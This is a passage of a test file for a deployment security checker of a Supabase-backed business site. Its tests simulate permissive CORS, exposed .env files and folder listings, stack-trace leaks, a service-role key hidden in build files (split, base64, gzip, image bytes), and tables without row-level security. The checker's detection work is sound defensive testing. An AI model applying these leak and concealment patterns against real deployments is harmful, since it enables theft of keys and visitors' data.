  it("fails on an API that answers the public key's reads with an empty 200, storage that lets the public key open photos and lacks the photo's files, and a webhook whose preflight leaves out the page's headers", async () => {
    const webhookPath = new URL(site.stack.webhookUrl).pathname;
    const host = await startHost(site.stack.url, otherHostPort, async (asked, upstream) => {
      // A slow processor that answers the test photo after its default 20 s wait for the render is not broken.
      if (asked.method === 'POST' && asked.path === webhookPath) {
        // Sending every call on as JSON, whatever it says it is (a wrapper that posts the body on with its own headers),
        // takes a foreign page's plain-text post as a call (session 27).
        const [reply] = await Promise.all([upstream(asked.path, { 'content-type': 'application/json' }), new Promise<void>((resolve) => setTimeout(resolve, 21_000))]);
        // And a queue in front of it that takes every photo, the processor's refusal of an unknown request included.
        return reply.status === 409 ? { status: 202, headers: { 'content-type': 'application/json' }, body: '{"status":"queued"}' } : reply;
      }
      // A storage policy that lets anon read the bucket: the public key's read goes through as the secret key's would.
      if (asked.method === 'GET' && asked.path.startsWith('/storage/v1/object/authenticated/') && asked.headers.apikey === site.stack.anonKey) {
        return upstream(asked.path, { apikey: site.stack.serviceRoleKey, authorization: `Bearer ${site.stack.serviceRoleKey}` });
      }
      // And a Storage without the photo's files (the processor stored them in another project's, which serves its links).
      if (asked.method === 'GET' && asked.path.startsWith('/storage/v1/object/authenticated/') && asked.headers.apikey === site.stack.serviceRoleKey) {
        return { status: 400, headers: { 'content-type': 'application/json' }, body: '{"statusCode":"404","error":"not_found","message":"Object not found"}' };
      }
      const table = asked.path.match(/^\/rest\/v1\/(\w+)\?/)?.[1];
      if (asked.method === 'GET' && table && (LEAD_TABLES as readonly string[]).includes(table) && asked.headers.apikey === site.stack.anonKey) {
        return { status: 200, headers: { 'content-type': 'application/json' }, body: '' };
      }
      const reply = await upstream();
      if (asked.method === 'OPTIONS') {
        reply.headers['access-control-allow-headers'] = 'content-type';
        // And a CORS rule of its own that matches the site's name with no end anchor, and takes the origin null.
        const origin = String(asked.headers.origin ?? '');
        if (origin === 'null' || /^https?:\/\/127\.0\.0\.1/.test(origin)) reply.headers['access-control-allow-origin'] = origin;
      }
      return reply;
    });
    try {
      const { code, failed, lines } = await checkDeployment({ ...envFor(site.stack), SUPABASE_URL: host.url, VITE_VISUALIZER_WEBHOOK_URL: `${host.url}${webhookPath}` });

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        // True as well: the site talks to the stack itself, not to this host in front of it.
        expect.stringMatching(/^FAIL {2}site built for this deployment: its \d+ scripts do not use SUPABASE_URL \(they hold http:\/\/127\.0\.0\.1:\d+\), VITE_VISUALIZER_WEBHOOK_URL \(they hold http:\/\/127\.0\.0\.1:\d+\/functions\/v1\/floor-visualizer\) as set here/),
        ...LEAD_TABLES.map(
          (table) =>
            `FAIL  public key cannot read ${table}: answered 200 without a list for select=id (an empty body): nothing can be concluded; is SUPABASE_URL the project's API?`,
        ),
        `FAIL  webhook CORS for the site: allows ${new URL(site.siteUrl).origin} but not the header(s) content-encoding, x-visualizer-request the page sends: browsers would send no photo (a proxy's own CORS settings in front of the processor?)`,
        `FAIL  webhook CORS refuses other origins: a preflight from null, http://127.0.0.1.deployment-check.invalid:${new URL(site.siteUrl).port} is allowed (each sent back as the allowed origin): a page in a sandboxed frame or a file (origin null) could post photos; something in front of the processor (a proxy's or CDN's CORS rule) matches origins too loosely: allow ${new URL(site.siteUrl).origin} exactly`,
        'FAIL  webhook refuses a plain-text post from another site: a POST of text/plain from https://deployment-check.invalid answered 202 ({"status":"queued"}), not 415: it was read as a photo call, so a page on any other site can make its visitors\' browsers post photos (browsers send such a post without asking the processor first); deploy this checkout\'s processor, which refuses any call not sent as JSON, and let nothing in front of it change the Content-Type',
        'FAIL  webhook refuses a photo for a request nobody made: it took a photo for a request nobody made (202 {"status":"queued"}): anyone could have it render and store photos; is something in front of the processor answering for it?',
        expect.stringMatching(/^FAIL {2}test photo stored and rendered: rendered and served, but floor-visualizer(-uploads)?\/.+ is not in this project's Storage \(400 to the secret key\): the processor stores the photos in another project /),
        expect.stringMatching(/^FAIL {2}public key cannot open the stored photos: the public key opened floor-visualizer\/.+: a storage policy lets anon read the visitors' photos$/),
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a webhook whose preflight something in front of it answers for the site while the processor's own answers allow another origin (session 27)", async () => {
    const webhookPath = new URL(site.stack.webhookUrl).pathname;
    // An API gateway's CORS setting answers preflights (here: passed on to a processor that allows the site); the
    // processor's ALLOWED_ORIGINS is staging's, so its own answers allow only that.
    const host = await startHost(site.stack.url, await findFreePort(), async (asked, upstream) => {
      const reply = await upstream();
      if (asked.method !== 'OPTIONS' && reply.headers['access-control-allow-origin']) reply.headers['access-control-allow-origin'] = 'https://staging.floors.example';
      return reply;
    });
    try {
      const { code, failed, lines } = await checkDeployment({ ...envFor(site.stack), VITE_VISUALIZER_WEBHOOK_URL: `${host.url}${webhookPath}` });

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        // True as well: the site's build names the stack's own webhook address, not this front's.
        expect.stringMatching(/^FAIL {2}site built for this deployment: its \d+ scripts do not use VITE_VISUALIZER_WEBHOOK_URL \(they hold http:\/\/127\.0\.0\.1:\d+\/functions\/v1\/floor-visualizer\) as set here/),
        `FAIL  webhook CORS for the site: its preflight allows ${new URL(site.siteUrl).origin}, but the webhook's own answer does not (it allows https://staging.floors.example; a call answered 400): something in front of the processor answers the preflight itself while the processor's ALLOWED_ORIGINS names another origin, so browsers send the photo but cannot read the reply, and visitors cannot fix the floor or choose a rug; set the processor's ALLOWED_ORIGINS to ${new URL(site.siteUrl).origin}`,
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a webhook whose front allows any origin only to what looks like a browser's preflight (its fetch metadata), which a bare preflight did not show (red-team, session 28)", async () => {
    const webhookPath = new URL(site.stack.webhookUrl).pathname;
    // An edge function's CORS in front of the processor: it reflects any origin, but only for a browser's preflight.
    const host = await startHost(site.stack.url, await findFreePort(), async (asked, upstream) => {
      if (asked.method === 'OPTIONS' && asked.headers['sec-fetch-mode'] === 'cors' && asked.headers['sec-fetch-dest'] === 'empty') {
        return {
          status: 204,
          headers: {
            'access-control-allow-origin': String(asked.headers.origin),
            'access-control-allow-methods': 'POST',
            'access-control-allow-headers': String(asked.headers['access-control-request-headers'] ?? ''),
          },
          body: '',
        };
      }
      return upstream();
    });
    try {
      const { code, failed, lines } = await checkDeployment({ ...envFor(site.stack), VITE_VISUALIZER_WEBHOOK_URL: `${host.url}${webhookPath}` });

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        // True as well: the site's build names the stack's own webhook address, not this front's.
        expect.stringMatching(/^FAIL {2}site built for this deployment: its \d+ scripts do not use VITE_VISUALIZER_WEBHOOK_URL /),
        `FAIL  webhook CORS refuses other origins: a preflight from https://deployment-check.invalid is allowed (https://deployment-check.invalid): any web page could post photos; set ALLOWED_ORIGINS to ${new URL(site.siteUrl).origin}`,
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a webhook whose allowed origins still name a developer's local site, taken exactly as the processor takes its list (red-team, session 28)", async () => {
    const webhookPath = new URL(site.stack.webhookUrl).pathname;
    // ALLOWED_ORIGINS copied from a developer's settings: the site, and npm start's http://localhost:5173.
    const host = await startHost(site.stack.url, await findFreePort(), async (asked, upstream) => {
      const reply = await upstream();
      return asked.headers.origin === 'http://localhost:5173' ? { ...reply, headers: { ...reply.headers, 'access-control-allow-origin': 'http://localhost:5173' } } : reply;
    });
    try {
      const { failed, lines } = await checkDeployment({ ...envFor(site.stack), VITE_VISUALIZER_WEBHOOK_URL: `${host.url}${webhookPath}` });

      expect(failed, lines.join('\n')).toEqual([
        expect.stringMatching(/^FAIL {2}site built for this deployment: its \d+ scripts do not use VITE_VISUALIZER_WEBHOOK_URL /),
        `FAIL  webhook CORS refuses other origins: a preflight from http://localhost:5173 is allowed: the processor's ALLOWED_ORIGINS (or a CORS rule in front of it) still names a developer's or a plain-http address, so a page served there (any local dev server on a visitor's computer, a network answering the http address) may post photos and read the answers; set ALLOWED_ORIGINS to ${new URL(site.siteUrl).origin} alone`,
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a processor whose host hands out the .env of its folder, where only the site's host was asked for the build machine's files (session 31)", async () => {
    const webhookPath = new URL(site.stack.webhookUrl).pathname;
    // nginx in front of a processor run with node --env-file=.env, its root at the app's folder: a file first, then
    // the processor (try_files $uri @node). Everything else the check asks is passed on.
    const envFile = [
      `SUPABASE_URL=${site.stack.url}`,
      `SUPABASE_SERVICE_ROLE_KEY=${site.stack.serviceRoleKey}`,
      `JWT_SECRET="${LOCAL_JWT_SECRET}"`,
      'SMTP_PASSWORD=correct-horse-battery-staple',
      '',
    ].join('\n');
    const host = await startHost(site.stack.url, await findFreePort(), async (asked, upstream) =>
      asked.path === '/.env' ? { status: 200, headers: { 'content-type': 'application/octet-stream' }, body: envFile } : upstream(),
    );
    try {
      const { failed, lines } = await checkDeployment({ ...envFor(site.stack), VITE_VISUALIZER_WEBHOOK_URL: `${host.url}${webhookPath}` });

      expect(failed, lines.join('\n')).toEqual([
        // True as well: the site's build names the stack's own webhook address, not this front's.
        expect.stringMatching(/^FAIL {2}site built for this deployment: its \d+ scripts do not use VITE_VISUALIZER_WEBHOOK_URL /),
        `FAIL  processor and API hand out no file of their machine: ${host.url}/.env (${envFile.length} bytes, holding the secret key SUPABASE_SERVICE_ROLE_KEY, a JWT key for the role service_role, the JWT secret the keys are signed with) is handed to anyone: the settings of the machine the service runs on (a proxy whose root is the app's folder, serving its files before passing a request on); serve nothing from the service's folder (pass every path to the service), and rotate every key and password the file held`,
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a processor behind a front that answers a malformed post with its development error page, its stack trace naming the app's folder, where no line sent a malformed request (session 32)", async () => {
    const webhookPath = new URL(site.stack.webhookUrl).pathname;
    // An Express app run without NODE_ENV=production, express.json() before its proxy to the processor: a body that is
    // not JSON gets finalhandler's development page. Everything else is passed on.
    const page =
      '<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>Error</title>\n</head>\n<body>\n<pre>SyntaxError: Unexpected end of JSON input<br> &nbsp; &nbsp;at JSON.parse (&lt;anonymous&gt;)<br> &nbsp; &nbsp;at parse (/srv/flooring/node_modules/body-parser/lib/types/json.js:92:19)<br> &nbsp; &nbsp;at /srv/flooring/node_modules/body-parser/lib/read.js:128:18</pre>\n</body>\n</html>\n';
    const host = await startHost(site.stack.url, await findFreePort(), async (_asked, upstream) => {
      const reply = await upstream();
      return reply.status === 400 && reply.body.includes('The request body must be JSON.')
        ? { status: 400, headers: { 'content-type': 'text/html; charset=utf-8', 'x-powered-by': 'Express' }, body: page }
        : reply;
    });
    try {
      const { failed, lines } = await checkDeployment({ ...envFor(site.stack), VITE_VISUALIZER_WEBHOOK_URL: `${host.url}${webhookPath}` });

      expect(failed, lines.join('\n')).toEqual([
        // True as well: the site's build names the stack's own webhook address, not this front's.
        expect.stringMatching(/^FAIL {2}site built for this deployment: its \d+ scripts do not use VITE_VISUALIZER_WEBHOOK_URL /),
        `FAIL  processor and API errors reveal nothing of their machine: a photo post whose body is not JSON at ${host.url}${webhookPath} is answered 400 with a stack trace, a file of the app's folder: what an attacker reads to find the app's folders, its database and its keys; run the services with NODE_ENV=production and answer errors with a line that names no file, setting or statement (the processor's own refusals do), and rotate any key or password shown`,
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a file of the build the host cuts off after its first bytes, which hold the secret key, where the secret-key line took a file it could not read for a clean one (session 33)", async () => {
    // A file public/ put in the build (the favicon), served with the key first and the connection dropped after it:
    // whoever asks reads the key; the check's request failed, and the line went on as if the file held nothing.
    const buildFile = fs.readdirSync(site.buildDir).find((name) => name.endsWith('.svg'))!;
    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
      const reply = await upstream();
      if (asked.path !== `/${buildFile}`) return reply;
      const body = `<!-- deploy: ${site.stack.serviceRoleKey} -->\n${reply.body}`;
      return { ...reply, body, cutOffAfter: body.indexOf('-->') + 3 };
    });
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      expect(failed, lines.join('\n')).toEqual([
        expect.stringMatching(
          new RegExp(`^FAIL {2}site publishes no secret key: /${buildFile.replaceAll('.', '\\.')} \\([^)]+\\): the host hands this file out but not whole, so whether it holds a secret key is not known`),
        ),
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a site host that lists a folder the check never knew of, its file holding the secret key and the database's password, and a config left at a usual path (session 33)", async () => {
    // nginx's autoindex on a folder put beside the build by hand, and a config.json copied to /static/: no line asked
    // either path.
    const envFile = `SUPABASE_SERVICE_ROLE_KEY=${site.stack.serviceRoleKey}\nDATABASE_URL=postgresql://postgres:hunter2-hunter2@db.example.internal:5432/postgres\n`;
    const listing =
      '<html>\r\n<head><title>Index of /backup/</title></head>\r\n<body>\r\n<h1>Index of /backup/</h1><hr><pre><a href="../">../</a>\r\n<a href="flooring-2026-11.env">flooring-2026-11.env</a>                              02-Nov-2026 10:12                 212\r\n</pre><hr></body>\r\n</html>\r\n';
    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
      if (asked.path === '/backup/') return { status: 200, headers: { 'content-type': 'text/html' }, body: listing };
      if (asked.path === '/backup/flooring-2026-11.env') return { status: 200, headers: { 'content-type': 'application/octet-stream' }, body: envFile };
      if (asked.path === '/static/config.json') return { status: 200, headers: { 'content-type': 'application/json' }, body: '{"smtp":{"host":"smtp.example.net","user":"office","pass":"x"},"SMTP_PASSWORD":"correct-horse-battery"}' };
      return upstream();
    });
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      expect(failed, lines.join('\n')).toEqual([
        `FAIL  no host lists a folder or hands out a leftover file: ${host.url}/backup/ is a folder listing naming 1 entry (/backup/flooring-2026-11.env), where /backup/flooring-2026-11.env holds a database or mail server address with its password, the settings SUPABASE_SERVICE_ROLE_KEY, DATABASE_URL with a value, the secret key SUPABASE_SERVICE_ROLE_KEY${site.stack.serviceRoleKey.startsWith('eyJ') ? ', a JWT key for the role service_role' : ''}; ${host.url}/static/config.json is handed out (103 bytes, holding the setting SMTP_PASSWORD with a value): a file nobody was meant to fetch, public to anyone who guesses or reads its path; turn folder listings off (nginx: no autoindex; Apache: Options -Indexes), delete what is not the site's build or the service from the host, and rotate every key and password such a file held`,
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a site's other name that serves an earlier build's page cut off half-way, which the line took for a name that answers nothing (session 33)", async () => {
    // The bare domain left on the old host, whose answer stops after the page's head: browsers show it and run its
    // scripts; the check's request failed, and the line said the name serves nothing.
    const port = await findFreePort();
    const [www, bare] = [`www.haddon-floorworks.test:${port}`, `haddon-floorworks.test:${port}`];
    const host = await startHost(site.siteUrl, port, async (asked, upstream) => {
      const reply = await upstream();
      if (asked.headers.host !== bare) return reply;
      const body = reply.body.replaceAll('/assets/index-', '/assets/index-0ld');
      return { ...reply, body, cutOffAfter: body.indexOf('</head>') };
    });
    const env = {
      ...envFor(site.stack),
      NODE_OPTIONS: `--import=${path.join(PROJECT_ROOT, 'tests', 'support', 'resolve-test-names.mjs')}`,
      TEST_HOST_ADDRESSES: 'www.haddon-floorworks.test=127.0.0.1,haddon-floorworks.test=127.0.0.1',
    };
    try {
      const { lines } = await checkDeployment(env, defaultArgs(), `http://${www}`);

      expect(lines.find((line) => line.includes("site's other name serves no other site")), lines.join('\n')).toMatch(
        new RegExp(`^FAIL {2}site's other name serves no other site: http://${bare.replace(/\./g, '\\.')}/ began an answer \\(200\\) and did not finish it \\([^)]+\\): browsers show what arrived, and run its scripts`),
      );
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails claims the owner has not confirmed, read from the deployed pages, and a claim-shaped phrase no claim lists that a host serves iPhones only, which every line passed (session 34)", async () => {
    // The checkout's list as it is (every claim unconfirmed), read against the build's own pages.
    const asListed = await checkDeployment(envFor(site.stack), undefined, site.siteUrl, { claims: 'as listed' });

    expect(asListed.failed, asListed.lines.join('\n')).toEqual([
      expect.stringMatching(
        /^FAIL {2}pages make no claim the owner has not confirmed: the pages show 14 claims only the owner can back that src\/config\/owner-claims\.ts does not confirm: "Licensed & Insured" \(licensedAndInsured, not confirmed\) on \/, \/realtors, \/investors; .*: the owner must back each claim and set its `confirmed` to true in src\/config\/owner-claims\.ts \(README, "What only the owner can make true"\), or have the spec's owner change the words; a claim-shaped phrase the list lacks is added to it first, for the owner to confirm$/,
      ),
      // And the e-mail the worker made, held to the same list (session 35: the lines read no e-mail's words).
      expect.stringMatching(
        /^FAIL {2}e-mails show the business's own facts, link to the site and reach its inbox: its e-mail shows 3 claims only the owner can back that src\/config\/owner-claims\.ts does not confirm: "with program details and your welcome kit" \(partnerWelcome, not confirmed\); "fast, clean, professional service" \(fastTurnaround, not confirmed\); "Free headshot sessions" \(realtorRewards, not confirmed\): the owner must back each claim/,
      ),
    ]);

    // Every claim confirmed, and a host (a mobile rule, a hacked page) that adds a promise for iPhones only: the
    // page-code line holds a phone's page to the first by its scripts, heading and contacts, not its words.
    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
      const reply = await upstream();
      if (asked.path.split('?')[0] !== '/realtors' || !/iPhone/.test(String(asked.headers['user-agent']))) return reply;
      return { ...reply, body: reply.body.replace('</body>', '<p>Lowest prices in South Jersey, guaranteed.</p></body>') };
    });
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      expect(failed, lines.join('\n')).toEqual([
        expect.stringMatching(
          /^FAIL {2}pages make no claim the owner has not confirmed: the pages show a claim only the owner can back that src\/config\/owner-claims\.ts does not confirm: "guaranteed" in "[^"]*Lowest prices in South Jersey, guaranteed\.[^"]*" on \/realtors \(as served to an iPhone's Safari\), which no claim of the list has: the owner must back each claim and set its `confirmed` to true in src\/config\/owner-claims\.ts \(README, "What only the owner can make true"\), or have the spec's owner change the words; a claim-shaped phrase the list lacks is added to it first, for the owner to confirm$/,
        ),
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 600_000);

  it("fails a secret key split across two files of the build and one inside an image of the build, which the secret-key line, reading whole keys in text files only, passed (session 34), and one base64-encoded or gzip-compressed in a file, which it passed too (session 35)", async () => {
    // A key copied from a server's settings in two halves (the stamp lists every VITE_ setting a build was given), and
    // one written into an image's bytes: each part is public, and no file held the key whole as text.
    // Cut inside the JWT's payload: neither half reads as a JWT, and the second holds its secret part, the signature.
    const key = site.stack.serviceRoleKey;
    const cut = key.startsWith('eyJ') ? key.indexOf('.') + 20 : Math.floor(key.length / 2);
    const [first, second] = [key.slice(0, cut), key.slice(cut)];
    const [image, otherImage] = fs
      .readdirSync(site.buildDir, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && /\.(png|webp|jpe?g|avif|ico)$/.test(entry.name))
      // In the order the line reads the build's files (and names them).
      .map((entry) => `/${path.relative(site.buildDir, path.join(entry.parentPath, entry.name)).split(path.sep).join('/')}`);
    const imagePath = image!;
    // Session 35: the key "obfuscated" as base64 in the sitemap, and a gzip of a .env appended to a second image.
    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
      const reply = await upstream();
      const asPath = asked.path.split('?')[0];
      if (asPath === '/build-stamp.json') return { ...reply, body: reply.body.replace('{', `{"VITE_SUPABASE_KEY_1":"${first}",`) };
      if (asPath === '/robots.txt') return { ...reply, body: `${reply.body}\n# key part 2: ${second}\n` };
      if (asPath === '/sitemap.xml') return { ...reply, body: reply.body.replace('</urlset>', `<!-- cdn-token: ${Buffer.from(`key=${key}`).toString('base64')} --></urlset>`) };
      if (asPath === imagePath) return { ...reply, body: `${reply.body}${key}` };
      if (asPath === otherImage) return { ...reply, body: Buffer.concat([Buffer.from(reply.body), gzipSync(`SUPABASE_SERVICE_ROLE_KEY=${key}\n`)]) };
      return reply;
    });
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);

      const piece = 'a piece of the secret key SUPABASE_SERVICE_ROLE_KEY (12 characters or more of its secret part: a key split across files, or cut)';
      const jwt = (how: string) => (key.startsWith('eyJ') ? `, a JWT key for the role service_role${how}` : `, an sb_secret_… key${how}`);
      expect(failed, lines.join('\n')).toEqual([
        `FAIL  site publishes no secret key: /robots.txt holds ${piece}; /sitemap.xml holds the secret key SUPABASE_SERVICE_ROLE_KEY base64-encoded; ${imagePath} holds the secret key SUPABASE_SERVICE_ROLE_KEY${jwt('')}; ${otherImage} holds the secret key SUPABASE_SERVICE_ROLE_KEY (gzip-compressed)${jwt(' (gzip-compressed)')}: anyone can read every row with it. Rotate the key in the Supabase dashboard now, redeploy the services, and rebuild the site without it in any VITE_ setting or source file`,
      ]);
    } finally {
      await host.close();
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('fails, saying which check, when the service key is not the service key, and when the site is not the build that was made', async () => {
    // The build made last (dist/) is not the one the host serves: every hashed name of its entry differs (the line names
    // the first that differs in sorted order, the entry's script or its stylesheet, whichever hash sorts first).
    const laterBuild = fs.mkdtempSync(path.join(os.tmpdir(), 'check-deployment-later-build-'));
    for (const page of DEPLOYED_PAGES) {
      const file = page === '/' ? 'index.html' : `${page.slice(1)}.html`;
      fs.writeFileSync(path.join(laterBuild, file), fs.readFileSync(path.join(site.buildDir, file), 'utf8').replaceAll('/assets/index-', '/assets/index-n3w'));
    }
    const { code, failed, lines } = await checkDeployment({ ...envFor(site.stack), SUPABASE_SERVICE_ROLE_KEY: site.stack.anonKey }, [
      '--client-addresses',
      '127.0.0.2,127.0.0.3',
      '--build-dir',
      laterBuild,
    ]).finally(() => fs.rmSync(laterBuild, { recursive: true, force: true }));

    expect(failed.find((line) => line.startsWith('FAIL  site is the build')), lines.join('\n')).toMatch(
      new RegExp(`^FAIL {2}site is the build in ${laterBuild}: the host serves another build than ${laterBuild}/: / names /assets/index-(\\S+)\\.(js|css) where ${laterBuild}/index\\.html names /assets/index-n3w\\1\\.\\2; /realtors names`),
    );
    expect(code).toBe(1);
    expect(failed.some((line) => line.startsWith('FAIL  test rows planted: the secret key could not plant them'))).toBe(true);
    expect(failed.some((line) => line.startsWith('FAIL  bucket floor-visualizer'))).toBe(true);
    // The public key given as the secret one is not a secret key leaked into the site.
    expect(failed.some((line) => line.startsWith('FAIL  site publishes no secret key'))).toBe(false);
  }, 300_000);

  it("fails on another project's public key instead of taking the API's refusal of the key for a hidden row", async () => {
    const { code, failed, lines } = await checkDeployment({ ...envFor(site.stack), SUPABASE_ANON_KEY: 'sb_publishable_anotherProjectsKey0000' });

    expect(code).toBe(1);
    for (const table of LEAD_TABLES) {
      expect(failed, lines.join('\n')).toContain(
        `FAIL  public key cannot read ${table}: the API refused the public key itself (401 {"message":"Invalid API key","hint":"Send the anon key as the apikey header."}), so nothing about the row is known: SUPABASE_ANON_KEY is not a key of this project (another project's, or a rotated one); a site built with it fails every form`,
      );
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('names each lead table anon can read once it holds a row: row-level security off, or a select policy for anon; and a migration the database lacks', async () => {
    // A push that stopped before the newest migration (its record gone: what the database then says it has).
    const newest = listMigrations().at(-1)!;
    const [record] = await sql<{ version: string; name: string; statements: string[] }>('select version, name, statements from supabase_migrations.schema_migrations where version = $1', [newest.version]);
    await sql('delete from supabase_migrations.schema_migrations where version = $1', [newest.version]);
    await sql(`alter table public.investors disable row level security;
               grant select on public.investors to anon;
               create policy "anyone may read realtors" on public.realtors for select to anon using (true);`);
    try {
      const { code, failed, lines } = await checkDeployment(envFor(site.stack));

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        `FAIL  database has every migration of this checkout: the database lacks 1 of the ${listMigrations().length} migrations of this checkout (${newest.version}): the services write columns and call functions it does not have, and visitors' forms or photos fail; run \`npx supabase db push\` from this checkout (README, "Deploying", step 2)`,
        "FAIL  public key cannot read realtors: the public key read the marked test row (select=id): row-level security is off or a select policy lets anon read other visitors' rows",
        "FAIL  public key cannot read investors: the public key read the marked test row (select=id): row-level security is off or a select policy lets anon read other visitors' rows",
        // Asked of the catalog as well: it names them whether or not a marked row shows it.
        expect.stringMatching(
          /^FAIL {2}no view, function, copy or policy hands the public key lead rows: the public key may use the lead table investors \(row-level security off; anon may select id, [^)]*email[^)]*\), which lets it read rows whose id it was not sent, the lead table realtors \(its policy "anyone may read realtors", using true\), which lets it read rows whose id it was not sent: /,
        ),
        // And as a table the API serves with row-level security off, whatever its columns (session 29).
        "FAIL  every table the API serves has row-level security: row-level security is off on investors (the public key may select, insert): the API serves it to anyone with the public key, who may do all that to every row (a table made in the dashboard's SQL editor, which leaves row-level security off while Supabase grants it to anon and authenticated); turn row-level security on (alter table … enable row level security) in a migration, or revoke the grants",
        // And as a policy no migration makes (session 30).
        "FAIL  row-level policies are the migrations' own: realtors \"anyone may read realtors\" (for select to anon, using true), which no migration makes: a policy decides what the public key (or whoever signs up) may read and write past every other line's probe; re-make the migrations' policies as they are (supabase db reset on a copy shows them) and drop the others, or make a change in a migration",
      ]);
    } finally {
      await sql(`drop policy "anyone may read realtors" on public.realtors;
                 revoke select on public.investors from anon;
                 grant select (id) on public.investors to anon;
                 alter table public.investors enable row level security;`);
      await sql('insert into supabase_migrations.schema_migrations (version, name, statements) values ($1, $2, $3)', [record!.version, record!.name, record!.statements]);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a table added later without row-level security, which the public key may read, change and empty though no column is named like a lead table's (red-team, session 29)", async () => {
    // Made as the dashboard's SQL editor makes it: row-level security off, and the default privileges grant it to anon.
    await sql('create table public.estimates (id bigint generated always as identity primary key, customer_email text, address text, notes text)');
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack));

      expect(failed, lines.join('\n')).toEqual([
        "FAIL  every table the API serves has row-level security: row-level security is off on estimates (the public key may select, insert, update, delete, truncate; a signed-in user may select, insert, update, delete, truncate): the API serves it to anyone with the public key, who may do all that to every row (a table made in the dashboard's SQL editor, which leaves row-level security off while Supabase grants it to anon and authenticated); turn row-level security on (alter table … enable row level security) in a migration, or revoke the grants",
      ]);
    } finally {
      await sql('drop table public.estimates');
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a view made later that reads the office's e-mail log as its owner, which the public key may read though it reads no lead table and has no column named like one (session 30)", async () => {
    // Made as the dashboard's SQL editor makes it: a view reads as its owner, and the default privileges grant it to anon.
    await sql('create view public.mail_log as select recipient, kind, created_at from back_office.outbound_emails');
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack));

      expect(failed, lines.join('\n')).toEqual([
        "FAIL  every table the API serves has row-level security: the view mail_log (the public key may select, insert, update, delete, truncate; a signed-in user may select, insert, update, delete, truncate) reads as its owner, past row-level security and whatever schema it reads from, and the API serves it to anyone with the public key (made in the dashboard's SQL editor, which Supabase grants to anon and authenticated); drop it, make a view security_invoker (alter view … set (security_invoker = true)), or revoke the grants",
      ]);
    } finally {
      await sql('drop view public.mail_log');
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a lead table's policy changed by hand and a policy on a table added later with row-level security on, which every other line passed (session 30)", async () => {
    // A hurried fix in the dashboard, and its template "Enable read access for all users" on a table made there.
    await sql(`alter policy "visitors can start a floor visualizer request" on public.floor_visualizer_requests with check (true);
               create table public.estimates (id bigint generated always as identity primary key, notes text);
               alter table public.estimates enable row level security;
               create policy "Enable read access for all users" on public.estimates for select using (true)`);
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack));

      expect(failed, lines.join('\n')).toEqual([
        "FAIL  row-level policies are the migrations' own: estimates \"Enable read access for all users\" (for select to public, using true), which no migration makes; floor_visualizer_requests \"visitors can start a floor visualizer request\" is for insert to anon, with check true, where 20261121000300_floor_visualizer_requests.sql makes it for insert to anon, with check status 'pending' and original_image_url is null and processed_image_url is null: a policy decides what the public key (or whoever signs up) may read and write past every other line's probe; re-make the migrations' policies as they are (supabase db reset on a copy shows them) and drop the others, or make a change in a migration",
      ]);
    } finally {
      await sql(`alter policy "visitors can start a floor visualizer request" on public.floor_visualizer_requests
                   with check (status = 'pending' and original_image_url is null and processed_image_url is null);
                 drop table public.estimates`);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a schema added to the API's exposed schemas, whose table without row-level security the public key reads, though every line that reads the database looks at public and graphql_public only (session 31)", async () => {
    // As Supabase's own help for PGRST106 says to expose a schema (the dashboard's "Exposed schemas" does the same).
    await sql(`create schema staff;
               create table staff.estimates (id bigint generated always as identity primary key, customer_email text, address text);
               insert into staff.estimates (customer_email, address) values ('jo@example.com', '12 Elm Street');
               grant usage on schema staff to anon, authenticated;
               grant select on staff.estimates to anon, authenticated;
               alter role authenticator set pgrst.db_schemas = 'public, staff';
               notify pgrst, 'reload config'`);
    const readWithPublicKey = async () => {
      const reply = await fetch(`${site.stack.url}/rest/v1/estimates?select=customer_email,address`, {
        headers: { apikey: site.stack.anonKey, authorization: `Bearer ${site.stack.anonKey}`, 'accept-profile': 'staff' },
      });
      return { status: reply.status, body: (await reply.json()) as unknown };
    };
    try {
      // What the public key is handed: the row.
